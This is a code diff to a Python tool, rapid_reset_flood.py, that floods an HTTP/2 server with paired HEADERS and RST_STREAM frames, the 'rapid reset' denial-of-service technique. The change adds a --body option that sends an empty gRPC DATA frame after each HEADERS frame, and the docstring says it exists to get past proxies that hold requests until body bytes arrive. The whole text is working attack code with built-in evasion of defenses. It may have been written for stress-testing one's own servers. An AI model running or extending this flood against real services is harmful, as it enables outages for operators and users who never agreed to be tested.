@@ -14,6 +14,7 @@ GOAWAY ends the flood. Then the connection is closed.
 
   rapid_reset_flood.py HOST PORT [SECONDS [RATE]] [--tls CA_PEM]
                        [--server-name NAME] [--reconnect] [--split GAP]
+                       [--body]
     SECONDS  default 8
     RATE     pairs per second, 0 (the default) = as fast as possible;
              with a rate, writes are 100 pairs, paced
@@ -26,6 +27,10 @@ GOAWAY ends the flood. Then the connection is closed.
              GAP seconds later in the next (the streams of a write stay
              within a SETTINGS_MAX_CONCURRENT_STREAMS of 100): what gets
              past a proxy that drops a stream reset in the same read
+    --body   each HEADERS followed by a DATA frame holding an empty gRPC
+             message (its 5-byte prefix; the stream stays open): what gets
+             past a proxy that waits for a request's first body bytes
+             before it passes the request on (with --split)
 
 Prints one JSON line: pairs sent, seconds, pairs/s, the GOAWAY error code
 if the server sent one, whether the server closed the connection, and the
@@ -48,7 +53,8 @@ import hpack
 
 PAIRS_PER_WRITE = 1000
 CANCEL = 0x8
-HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
+DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = (0x0, 0x1, 0x3, 0x4,
+                                                     0x6, 0x7)
 END_HEADERS, ACK = 0x4, 0x1
 
 
@@ -119,7 +125,7 @@ def parse(pending, goaway):
 
 
 def flood_connection(host, port, seconds, rate=0, tls_ca=None,
-                     server_name=None, split_gap=None):
+                     server_name=None, split_gap=None, body=False):
     """One connection's flood, until `seconds` are over or the server
     ends it: its figures (see the module's doc)."""
     sock = connect(host, port, tls_ca, server_name)
@@ -155,7 +161,9 @@ def flood_connection(host, port, seconds, rate=0, tls_ca=None,
         headers, resets = [], []
         for _ in range(per_write):
             headers.append(frame(HEADERS, END_HEADERS, stream_id,
-                                 first_block if stream_id == 1 else block))
+                                 first_block if stream_id == 1 else block) +
+                           (frame(DATA, 0, stream_id, b"\0" * 5) if body
+                            else b""))
             resets.append(frame(RST_STREAM, 0, stream_id, rst_payload))
             stream_id += 2
         try:
@@ -200,14 +208,15 @@ def flood_connection(host, port, seconds, rate=0, tls_ca=None,
 
 
 def flood(host, port, seconds, rate=0, tls_ca=None, server_name=None,
-          reconnect=False, split_gap=None):
+          reconnect=False, split_gap=None, body=False):
     """The flood: one connection, or with `reconnect` a new one whenever the
     server ends one (GOAWAY or close), until `seconds` are over; the
     figures summed ("connections", "goaways": how many; "goaway": the last
     code)."""
     if not reconnect:
         return dict(flood_connection(host, port, seconds, rate, tls_ca,
-                                     server_name, split_gap), connections=1)
+                                     server_name, split_gap, body),
+                    connections=1)
     start = time.monotonic()
     total = {"pairs": 0, "goaway": None, "closed_by_server": False,
              "connections": 0, "goaways": 0}
@@ -216,7 +225,7 @@ def flood(host, port, seconds, rate=0, tls_ca=None, server_name=None,
         if left <= 0:
             break
         one = flood_connection(host, port, left, rate, tls_ca, server_name,
-                               split_gap)
+                               split_gap, body)
         total["connections"] += 1
         total["pairs"] += one["pairs"]
         if one["goaway"] is not None:
@@ -245,10 +254,11 @@ def main():
     parser.add_argument("--server-name")
     parser.add_argument("--reconnect", action="store_true")
     parser.add_argument("--split", type=float, metavar="GAP")
+    parser.add_argument("--body", action="store_true")
     args = parser.parse_args()
     print(json.dumps(flood(args.host, args.port, args.seconds, args.rate,
                            args.tls, args.server_name, args.reconnect,
-                           args.split)), flush=True)
+                           args.split, args.body)), flush=True)
     return 0
 
 
